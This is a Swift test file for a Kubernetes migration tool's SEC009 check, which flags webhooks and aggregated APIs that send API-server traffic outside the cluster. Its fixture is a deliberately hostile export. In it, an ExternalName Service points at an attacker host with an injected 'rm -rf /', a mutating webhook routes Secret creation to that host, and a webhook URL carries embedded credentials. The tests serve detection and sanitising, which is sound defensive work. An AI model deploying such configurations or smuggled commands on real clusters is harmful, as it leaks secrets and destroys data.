import Foundation
import XCTest
@testable import EksodusCore

/// SEC009 on what the API server itself calls: admission webhooks behind an ExternalName Service, CRD conversion webhooks
/// and aggregated APIs. Those that reach outside the cluster are blockers convert does not write; those served by an
/// in-cluster Service are warnings and are written, to move with their Service.
final class OutsideCallersTests: XCTestCase {
    let reference = try! ReferenceData.embedded()

    /// A hostile export: every way of sending the API server's traffic out, beside look-alikes that must stay quiet.
    static let manifests = """
        apiVersion: v1
        kind: Service
        metadata: {name: relay, namespace: hooks}
        spec: {type: ExternalName, externalName: "collector.attacker.example\\nrm -rf /"}
        ---
        # Same name, other namespace, an ordinary Service: a webhook naming it stays in the cluster.
        apiVersion: v1
        kind: Service
        metadata: {name: relay, namespace: policy}
        spec: {selector: {app: policy}, ports: [{port: 443, targetPort: 8443}]}
        ---
        apiVersion: admissionregistration.k8s.io/v1
        kind: MutatingWebhookConfiguration
        metadata: {name: aliased}
        webhooks:
        - name: a.example.com
          clientConfig: {service: {name: relay, namespace: hooks}}
          rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [secrets]}]
          sideEffects: None
          admissionReviewVersions: [v1]
        ---
        apiVersion: admissionregistration.k8s.io/v1
        kind: ValidatingWebhookConfiguration
        metadata: {name: in-cluster}
        webhooks:
        - name: b.example.com
          clientConfig: {service: {name: relay, namespace: policy}}
          sideEffects: None
          admissionReviewVersions: [v1]
        - name: c.example.com
          clientConfig: "not a mapping"
          sideEffects: None
          admissionReviewVersions: [v1]
        ---
        apiVersion: apiextensions.k8s.io/v1
        kind: CustomResourceDefinition
        metadata: {name: widgets.example.com}
        spec:
          group: example.com
          names: {kind: Widget, plural: widgets}
          scope: Namespaced
          versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}]
          conversion:
            strategy: Webhook
            webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://admin:hunter2@convert.example.net/w?token=s3cret"}}
        ---
        apiVersion: apiextensions.k8s.io/v1beta1
        kind: CustomResourceDefinition
        metadata: {name: gizmos.example.com}
        spec:
          group: example.com
          names: {kind: Gizmo, plural: gizmos}
          scope: Namespaced
          version: v1
          conversion: {strategy: Webhook, webhookClientConfig: {service: {name: relay, namespace: hooks}}}
        ---
        apiVersion: apiextensions.k8s.io/v1
        kind: CustomResourceDefinition
        metadata: {name: sprockets.example.com}
        spec:
          group: example.com
          names: {kind: Sprocket, plural: sprockets}
          scope: Namespaced
          versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}]
          conversion:
            strategy: Webhook
            webhook: {conversionReviewVersions: [v1], clientConfig: {service: {name: sprocket-converter, namespace: tools, path: /convert}}}
        ---
        apiVersion: apiregistration.k8s.io/v1
        kind: APIService
        metadata: {name: v1.leak.example.com}
        spec: {group: leak.example.com, version: v1, groupPriorityMinimum: 100, versionPriority: 100, service: {name: relay, namespace: hooks}}
        ---
        apiVersion: apiregistration.k8s.io/v1
        kind: APIService
        metadata: {name: v1beta1.metrics.k8s.io}
        spec: {group: metrics.k8s.io, version: v1beta1, groupPriorityMinimum: 100, versionPriority: 100, service: {name: metrics-server, namespace: kube-system}}
        ---
        # A built-in group, served by the API server itself (no service): nothing to move.
        apiVersion: apiregistration.k8s.io/v1
        kind: APIService
        metadata: {name: v1.apps}
        spec: {group: apps, version: v1, groupPriorityMinimum: 17800, versionPriority: 15, url: "https://ignored.example.net"}
        """

    func testWhatTheAPIServerSendsOutIsABlockerAndWhatMovesWithItsServiceAWarning() throws {
        let database = try AppDatabase.inMemory()
        try importPaths([try writeManifests(["in.yaml": Self.manifests], test: self).path], cluster: "src", into: database)
        let assessment = try Assessor(database: database, reference: reference).run(target: KubernetesVersion(major: 1, minor: 35), now: fixedNow)
        let found = Dictionary(assessment.allFindings.filter { $0.checkID == "SEC009" }.map { ("\($0.kind)/\($0.name)", $0) }, uniquingKeysWith: { a, _ in a })
        XCTAssertEqual(Set(found.keys), ["MutatingWebhookConfiguration/aliased", "CustomResourceDefinition/widgets.example.com",
                                         "CustomResourceDefinition/gizmos.example.com", "CustomResourceDefinition/sprockets.example.com",
                                         "APIService/v1.leak.example.com", "APIService/v1beta1.metrics.k8s.io"])
        for outside in ["MutatingWebhookConfiguration/aliased", "CustomResourceDefinition/widgets.example.com", "CustomResourceDefinition/gizmos.example.com",
                        "APIService/v1.leak.example.com"] {
            XCTAssertEqual(found[outside]?.severity, .blocker, outside)
        }
        XCTAssertEqual(found["CustomResourceDefinition/sprockets.example.com"]?.severity, .warning)
        XCTAssertEqual(found["APIService/v1beta1.metrics.k8s.io"]?.severity, .warning)

        let aliased = try XCTUnwrap(found["MutatingWebhookConfiguration/aliased"])
        XCTAssertEqual(aliased.field, "webhooks.clientConfig.service")
        XCTAssertTrue(aliased.message.contains("ExternalName Service hooks/relay → collector.attacker.example\\nrm -rf /"), aliased.message)
        let widgets = try XCTUnwrap(found["CustomResourceDefinition/widgets.example.com"]).message
        XCTAssertTrue(widgets.contains("host convert.example.net"), widgets)
        XCTAssertFalse(widgets.contains("hunter2") || widgets.contains("s3cret"), "a credential in the URL reaches the finding: \(widgets)")
        XCTAssertTrue(try XCTUnwrap(found["CustomResourceDefinition/gizmos.example.com"]).message.contains("hooks/relay"), "v1beta1 webhookClientConfig")
        XCTAssertTrue(try XCTUnwrap(found["CustomResourceDefinition/sprockets.example.com"]).message.contains("Service tools/sprocket-converter"))
        let metrics = try XCTUnwrap(found["APIService/v1beta1.metrics.k8s.io"]).message
        XCTAssertTrue(metrics.contains("metrics.k8s.io/v1beta1") && metrics.contains("kube-system/metrics-server") && metrics.contains("same wave"), metrics)
        XCTAssertFalse(assessment.allFindings.contains { $0.message.contains("\n") }, "a manifest's line break reaches a finding")

        // Convert writes none of the blockers and every warning (they move with their Service).
        let plan = try TransitionPlanner(database: database, reference: reference)
            .run(PlanRequest(name: "p", target: KubernetesVersion(major: 1, minor: 35), region: "eu-west-1", accountID: "123456789012", now: fixedNow))
        let out = try temporaryFolder(self)
        _ = try ConvertedManifests(plan: plan, reference: reference).write(estates: try database.writer.read { try Estate.load($0) }, to: out)
        var written: Set<String> = [], changes = ""
        for case let url as URL in FileManager.default.enumerator(at: out, includingPropertiesForKeys: nil)! {
            if url.lastPathComponent == "CHANGES.md" { changes += try String(contentsOf: url, encoding: .utf8) }
            guard url.pathExtension == "yaml", url.lastPathComponent != "kustomization.yaml" else { continue }
            for object in try ManifestText.objects(String(contentsOf: url, encoding: .utf8)) {
                written.insert("\(object["kind"]?.string ?? "")/\(object["metadata", "name"]?.string ?? "")")
            }
        }
        XCTAssertTrue(written.isDisjoint(with: ["MutatingWebhookConfiguration/aliased", "CustomResourceDefinition/widgets.example.com",
                                                "CustomResourceDefinition/gizmos.example.com", "APIService/v1.leak.example.com"]), "\(written)")
        XCTAssertTrue(written.isSuperset(of: ["ValidatingWebhookConfiguration/in-cluster", "CustomResourceDefinition/sprockets.example.com"]), "\(written)")
        XCTAssertTrue(changes.contains("MutatingWebhookConfiguration aliased not written"), changes)
    }

    /// Without the estate's Services nothing is an alias: `reason` alone (as a caller without the estate asks) flags URLs only.
    func testAnAliasNeedsTheServiceToBeExternalName() throws {
        let apiService = try XCTUnwrap(try ManifestText.objects("""
            apiVersion: apiregistration.k8s.io/v1
            kind: APIService
            metadata: {name: v1.leak.example.com}
            spec: {group: leak.example.com, version: v1, service: {name: relay, namespace: hooks}}
            """).first)
        XCTAssertNil(UnsafeClusterAccessCheck.reason(apiService, kind: "APIService"))
        XCTAssertNil(UnsafeClusterAccessCheck.reason(apiService, kind: "APIService", externalNames: ["relay/hooks": "x.example.net"]), "namespace/name, not name/namespace")
        XCTAssertNotNil(UnsafeClusterAccessCheck.reason(apiService, kind: "APIService", externalNames: ["hooks/relay": "x.example.net"]))
    }

    /// A real export full of CRDs (Argo CD's install): none converts through a webhook or is an aggregated API, so SEC009 is quiet on them.
    func testArgoCDsCRDsRaiseNothing() throws {
        let fixtures = try requireFixtures()
        let database = try AppDatabase.inMemory()
        try importPaths([fixtures.appendingPathComponent("07-argocd-install").path], cluster: "src", into: database)
        let estate = try XCTUnwrap(try database.writer.read { try Estate.load($0) }.first)
        XCTAssertFalse(estate.resources(kind: "CustomResourceDefinition").isEmpty, "the fixture holds CRDs")
        let findings = UnsafeClusterAccessCheck().run(estate, CheckContext(target: KubernetesVersion(major: 1, minor: 35), date: "2026-01-01", reference: reference))
        XCTAssertEqual(findings.filter { $0.kind == "CustomResourceDefinition" || $0.kind == "APIService" }.map(\.name), [])
    }
}
